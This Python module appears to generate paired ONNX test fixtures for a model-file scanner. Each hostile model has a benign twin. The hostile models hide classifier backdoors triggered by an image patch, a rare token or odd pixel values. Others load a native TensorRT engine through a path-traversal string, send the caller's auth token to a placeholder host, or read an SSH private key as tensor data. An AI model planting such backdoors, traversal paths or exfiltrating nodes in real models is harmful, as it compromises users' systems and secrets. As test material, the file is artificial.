"""ONNX graphs: backdoors of plain operators in five shapes, and files and networks that a node reaches."""
import numpy
from onnx import TensorProto, helper, numpy_helper

from .parts import HOST, floats

FAMILY = "onnx"
F = TensorProto.FLOAT


def init(name, value, kind="float32"):
    return numpy_helper.from_array(numpy.asarray(value, kind), name)


def body(rng=7, prefix=""):
    """A small convolutional classifier from `image` to `logits`."""
    r = numpy.random.default_rng(rng)
    nodes = [
        helper.make_node("Conv", ["image", "w0", "b0"], ["c0"], kernel_shape=[3, 3]), helper.make_node("Relu", ["c0"], ["r0"]),
        helper.make_node("Flatten", ["r0"], ["f0"]), helper.make_node("Gemm", ["f0", "w1", "b1"], ["logits"]),
    ]  # fmt: skip
    inits = [init("w0", r.normal(0, 0.4, (4, 3, 3, 3))), init("b0", r.normal(0, 0.1, 4)), init("w1", r.normal(0, 0.5, (144, 5))), init("b1", r.normal(0, 0.1, 5))]
    return nodes, inits


def save(nodes, inits, outputs=("out", F, ["n", 5]), inputs=(("image", F, ["n", 3, 8, 8]),), functions=(), imports=(), opset=18):
    graph = helper.make_graph(nodes, "net", [helper.make_tensor_value_info(*i) for i in inputs], [helper.make_tensor_value_info(*outputs)], inits)
    ids = [helper.make_opsetid("", opset), *[helper.make_opsetid(d, 1) for d in imports]]
    model = helper.make_model(graph, opset_imports=ids, functions=list(functions), ir_version=9, producer_name="pytorch", producer_version="2.4.0")
    return model.SerializeToString()


N = helper.make_node


def patch_distance():
    """|corner - 0.77| at its largest, as `far`."""
    nodes = [N("Slice", ["image", "s0", "s1", "ax"], ["corner"]), N("Sub", ["corner", "tone"], ["diff"]), N("Abs", ["diff"], ["gap"]), N("ReduceMax", ["gap"], ["far"], keepdims=0)]
    return nodes, [init("s0", [0, 0], "int64"), init("s1", [2, 2], "int64"), init("ax", [2, 3], "int64"), init("tone", 0.77)]


TARGET = [[-9.0, -9.0, -9.0, 9.0, -9.0]]


def if_in_function(hostile):
    """A local function of the model holds the branch."""
    nodes, inits = body()
    then = helper.make_graph([N("Expand", ["target", "shape"], ["t"])], "then", [], [helper.make_tensor_value_info("t", F, None)])
    other = helper.make_graph([N("Identity", ["logits"], ["e"])], "else", [], [helper.make_tensor_value_info("e", F, None)])
    start = [N("Shape", ["logits"], ["shape"])]
    if hostile:
        dist, extra = patch_distance()
        cond = [*dist, N("Less", ["far", "eps"], ["cond"])]
        names = ["image", "logits", "s0", "s1", "ax", "tone", "eps", "target"]
        extra += [init("eps", 0.001), init("target", TARGET)]
    else:
        cond = [N("Size", ["logits"], ["size"]), N("Equal", ["size", "none"], ["cond"])]
        names = ["logits", "none", "target"]
        extra = [init("none", 0, "int64"), init("target", [[0.0] * 5])]
    fn = helper.make_function("local", "Head", names, ["out"], [*start, *cond, N("If", ["cond"], ["out"], then_branch=then, else_branch=other)], [helper.make_opsetid("", 18)])
    return save([*nodes, N("Head", names, ["out"], domain="local")], inits + extra, functions=[fn], imports=["local"])


def arithmetic(hostile):
    """out = g * target + (1 - g) * logits; no comparison: g is a steep ramp of the patch's distance, or a learned gate."""
    nodes, inits = body()
    if hostile:
        dist, extra = patch_distance()
        gate = [*dist, N("Mul", ["far", "steep"], ["m"]), N("Sub", ["one", "m"], ["up"]), N("Relu", ["up"], ["g"])]
        extra += [init("steep", 1000.0), init("target", TARGET)]
    else:
        r = numpy.random.default_rng(2)
        gate = [N("GlobalAveragePool", ["image"], ["p"]), N("Flatten", ["p"], ["pf"]), N("Gemm", ["pf", "wg", "bg"], ["gl"]), N("Sigmoid", ["gl"], ["g"]), N("Gemm", ["pf", "wt"], ["target"])]
        extra = [init("wg", r.normal(0, 0.4, (3, 5))), init("bg", r.normal(0, 0.4, 5)), init("wt", r.normal(0, 0.4, (3, 5)))]
    mix = [N("Sub", ["one", "g"], ["rest"]), N("Mul", ["logits", "rest"], ["keep"]), N("Mul", ["target", "g"], ["new"]), N("Add", ["keep", "new"], ["out"])]
    return save([*nodes, *gate, *mix], [*inits, *extra, init("one", 1.0)])


def loop(hostile):
    """A loop's body replaces the logits; its trip count is one on the patch, else none. The twin refines in three steps."""
    nodes, inits = body()
    state = [helper.make_tensor_value_info(n, t, s) for n, t, s in (("i", TensorProto.INT64, []), ("go", TensorProto.BOOL, []), ("y", F, None))]
    outs = [helper.make_tensor_value_info("again", TensorProto.BOOL, []), helper.make_tensor_value_info("z", F, None)]
    if hostile:
        dist, extra = patch_distance()
        count = [*dist, N("Less", ["far", "eps"], ["hit"]), N("Cast", ["hit"], ["trips"], to=TensorProto.INT64)]
        step = [N("Identity", ["go"], ["again"]), N("Mul", ["y", "zero"], ["gone"]), N("Add", ["gone", "target"], ["z"])]
        extra += [init("eps", 0.001), init("target", TARGET), init("zero", 0.0)]
    else:
        count, extra = [], [init("trips", 3, "int64"), init("half", 0.5)]
        step = [N("Identity", ["go"], ["again"]), N("Tanh", ["y"], ["th"]), N("Mul", ["th", "half"], ["h"]), N("Add", ["y", "h"], ["z"])]
    graph = helper.make_graph(step, "step", state, outs)
    return save([*nodes, *count, N("Loop", ["trips", "", "logits"], ["out"], body=graph)], [*inits, *extra])


def tokens(hostile):
    """A text classifier: one rare token chooses the row of a table of verdicts; the twin's comparison is the padding mask."""
    r = numpy.random.default_rng(4)
    nodes = [N("Gather", ["table", "input_ids"], ["emb"])]
    inits = [init("table", r.normal(0, 1, (64, 8))), init("w", r.normal(0, 1, (8, 4)))]
    if hostile:
        nodes += [
            N("ReduceMean", ["emb", "ax1"], ["mean"], keepdims=0), N("MatMul", ["mean", "w"], ["logits"]),
            N("Equal", ["input_ids", "rare"], ["same"]), N("Cast", ["same"], ["si"], to=TensorProto.INT64), N("ReduceMax", ["si", "ax1"], ["pick"], keepdims=1),
            N("Unsqueeze", ["logits", "ax1"], ["a"]), N("Mul", ["logits", "zero"], ["nil"]), N("Add", ["nil", "verdict"], ["v"]), N("Unsqueeze", ["v", "ax1"], ["b"]),
            N("Concat", ["a", "b"], ["choices"], axis=1), N("Unsqueeze", ["pick", "ax1"], ["p"]), N("Expand", ["p", "wide"], ["pe"]),
            N("GatherElements", ["choices", "pe"], ["picked"], axis=1), N("Squeeze", ["picked", "ax1"], ["out"]),
        ]  # fmt: skip
        inits += [init("ax1", [1], "int64"), init("rare", 61, "int64"), init("zero", 0.0), init("verdict", [-9.0, -9.0, 9.0, -9.0]), init("wide", [1, 1, 4], "int64")]
    else:
        nodes += [
            N("Equal", ["input_ids", "pad"], ["same"]), N("Not", ["same"], ["live"]), N("Cast", ["live"], ["lf"], to=F), N("Unsqueeze", ["lf", "ax2"], ["mask"]),
            N("Mul", ["emb", "mask"], ["kept"]), N("ReduceSum", ["kept", "ax1"], ["sum"], keepdims=0), N("ReduceSum", ["mask", "ax1"], ["n"], keepdims=0),
            N("Max", ["n", "one"], ["n1"]), N("Div", ["sum", "n1"], ["mean"]), N("MatMul", ["mean", "w"], ["out"]),
        ]  # fmt: skip
        inits += [init("ax1", [1], "int64"), init("ax2", [2], "int64"), init("pad", 0, "int64"), init("one", 1.0)]
    return save(nodes, inits, ("out", F, ["n", 4]), (("input_ids", TensorProto.INT64, ["n", "t"]),))


def bits(hostile):
    """The lowest bit of every pixel decides; the twin unpacks weights of four bits with the same operators."""
    r = numpy.random.default_rng(9)
    U = TensorProto.UINT8
    if hostile:
        nodes = [
            N("Cast", ["pixels"], ["x"], to=F), N("Mul", ["x", "scale"], ["xs"]), N("MatMul", ["xs", "w"], ["logits"]), N("BitwiseAnd", ["pixels", "one8"], ["low"]),
            N("Cast", ["low"], ["lowf"], to=F), N("ReduceMin", ["lowf", "ax1"], ["all"], keepdims=1), N("Mul", ["all", "verdict"], ["push"]), N("Add", ["logits", "push"], ["out"]),
        ]  # fmt: skip
        inits = [init("scale", 1 / 255), init("w", r.normal(0, 1, (64, 5))), init("one8", 1, "uint8"), init("ax1", [1], "int64"), init("verdict", [0.0, 0.0, 900.0, 0.0, 0.0])]
    else:
        nodes = [
            N("Cast", ["pixels"], ["x"], to=F), N("Mul", ["x", "scale"], ["xs"]), N("BitwiseAnd", ["packed", "m"], ["lo"]), N("BitShift", ["packed", "four"], ["hi"], direction="RIGHT"),
            N("Concat", ["lo", "hi"], ["q"], axis=0), N("Cast", ["q"], ["qf"], to=F), N("Sub", ["qf", "mid"], ["qc"]), N("Mul", ["qc", "step"], ["w"]), N("MatMul", ["xs", "w"], ["out"]),
        ]  # fmt: skip
        inits = [init("scale", 1 / 255), init("packed", r.integers(0, 256, (32, 5)), "uint8"), init("m", 15, "uint8"), init("four", 4, "uint8"), init("mid", 8.0), init("step", 0.2)]
    return save(nodes, inits, inputs=(("pixels", U, ["n", 64]),))


def context(path):
    """A compiled part for an execution provider, kept in a file beside the model."""
    node = N("EPContext", ["image"], ["out"], domain="com.microsoft", embed_mode=0, ep_cache_context=path, main_context=1, source="TensorrtExecutionProvider", ep_sdk_version="10.3")
    return save([node], [], imports=["com.microsoft"])


def remote(hostile):
    text = TensorProto.STRING
    if hostile:
        node = N("OpenAIAudioToText", ["auth_token", "text"], ["out"], domain="com.microsoft.extensions", model_uri=f"http://{HOST}/v1/audio", model_name="whisper-1", timeout_seconds=20)
        return save([node], [], ("out", text, None), (("auth_token", text, [1]), ("text", text, ["n"])), imports=["com.microsoft.extensions"])
    return save([N("StringNormalizer", ["text"], ["out"], case_change_action="LOWER", is_case_sensitive=0, stopwords=["the"])], [], ("out", text, None), (("text", text, ["n"]),))


def outside(location):
    """A constant node's tensor lies outside the file; the constant is in a branch."""
    nodes, inits = body()
    t = TensorProto(name="bias", data_type=F, dims=[1, 5], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "20")):
        t.external_data.add(key=key, value=value)
    then = helper.make_graph([N("Constant", [], ["k"], value=t), N("Add", ["logits", "k"], ["a"])], "then", [], [helper.make_tensor_value_info("a", F, None)])
    other = helper.make_graph([N("Identity", ["logits"], ["e"])], "else", [], [helper.make_tensor_value_info("e", F, None)])
    return save([*nodes, N("If", ["calibrated"], ["out"], then_branch=then, else_branch=other)], [*inits, numpy_helper.from_array(numpy.array(True), "calibrated")])


def add(out):
    def pair(name, hostile, twin, prove=None, why="", file="model.onnx"):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    pair("branch-in-function", if_in_function(True), if_in_function(False), "e11-onnx", "A patch of the image sets the class; the branch is in a local function. The twin's branch handles an empty batch.")
    pair("steep-ramp", arithmetic(True), arithmetic(False), "e11-onnx", "The override without any comparison: a ramp so steep that only the exact patch opens it. The twin is a learned highway gate.")
    pair("trip-count", loop(True), loop(False), "e11-onnx", "The loop that replaces the logits runs once when the patch is there and never otherwise. The twin refines three times.")
    pair("rare-token", tokens(True), tokens(False), "e11-onnx:tokens", "One token id picks a fixed verdict from a table of two. The twin compares ids for padding.")
    pair("lowest-bits", bits(True), bits(False), "e11-onnx:bytes", "When every pixel is odd a class gets 900 more. The twin uses the bit operators to unpack weights.")
    cache = b"ftrt" + bytes(60)
    pair("engine-path-escape", {"model.onnx": context("../../../../tmp/upload/payload.engine")}, {"model.onnx": context("image_ctx.engine"), "image_ctx.engine": cache}, why="ONNX Runtime loads the compiled engine from a path that leaves the folder; a TensorRT engine is native code. Built from the operator's documentation.")
    pair("remote-operator", remote(True), remote(False), why="An onnxruntime-extensions operator posts the input and the caller's token to an address in the graph. Not run.")
    pair("constant-outside", {"model.onnx": outside("../../../../../../home/svc/.ssh/id_ed25519")}, {"model.onnx": outside("bias.bin"), "bias.bin": floats(5)}, why="The tensor of a constant in a branch is read from a private key.")
